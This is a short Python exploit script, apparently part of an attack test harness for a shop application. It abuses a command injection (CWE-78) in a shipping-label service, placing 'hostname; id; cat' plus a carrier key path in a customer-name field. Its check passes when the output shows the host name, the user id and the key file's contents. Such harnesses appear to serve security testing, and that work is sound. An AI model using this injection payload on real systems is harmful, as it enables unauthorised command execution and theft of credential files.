#!/usr/bin/python3 -B
"""Command injection: a customer's name ends the shell command that prints the label (CWE-78)."""

from attack import Attack

KEY = "/etc/shop/carrier.key"


def run(attack: Attack) -> bool:
    said = attack.shipping(f"hostname; id; cat {KEY}")
    attack.replicas["shipping"] = said.split("\n")[0]
    return attack.prove("shipping-3d5c" in said and "uid=33" in said, said=said)


Attack("T1190, T1059.004", ["edge", "orders", "shipping"], [KEY]).main(run)
